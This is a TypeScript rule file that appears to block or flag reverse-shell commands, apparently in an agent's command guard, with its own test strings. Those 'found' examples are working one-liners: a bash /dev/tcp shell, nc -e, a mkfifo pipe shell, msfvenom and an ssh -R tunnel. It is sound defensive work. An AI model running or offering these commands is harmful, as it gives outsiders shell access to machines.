/** Rules about shells for others. */
import { ASK, DENY, defineRule } from './define.ts';

export const REVSHELL = [
  defineRule('revshell.socket', 'critical', DENY, {
    reason: 'This gives a shell to another machine. Do not run it.',
    doc: 'A shell on a socket.',
    found: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'nc -e /bin/sh 10.0.0.1 4444'],
    silent: ['nc -z localhost 5432', 'curl http://localhost'],
  }),
  defineRule('revshell.pipe', 'critical', DENY, {
    reason: 'This gives a shell to another machine through a pipe. Do not run it.',
    doc: 'A shell on a named pipe.',
    found: ['mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'],
    silent: ['mkfifo /tmp/f'],
  }),
  defineRule('revshell.tool', 'critical', DENY, {
    reason: 'This makes or serves a program that attacks. Do not run it.',
    doc: 'Attack tools.',
    found: ['msfvenom -p x -o y'],
    silent: ['ls'],
  }),
  defineRule('revshell.tunnel', 'high', ASK, {
    reason: 'This opens a way from outside into this machine. Ask the person first.',
    doc: 'Reverse tunnels.',
    found: ['ssh -R 2222:localhost:22 me@x.example'],
    silent: ['ssh -L 5432:db:5432 me@x.example'],
  }),
] as const;
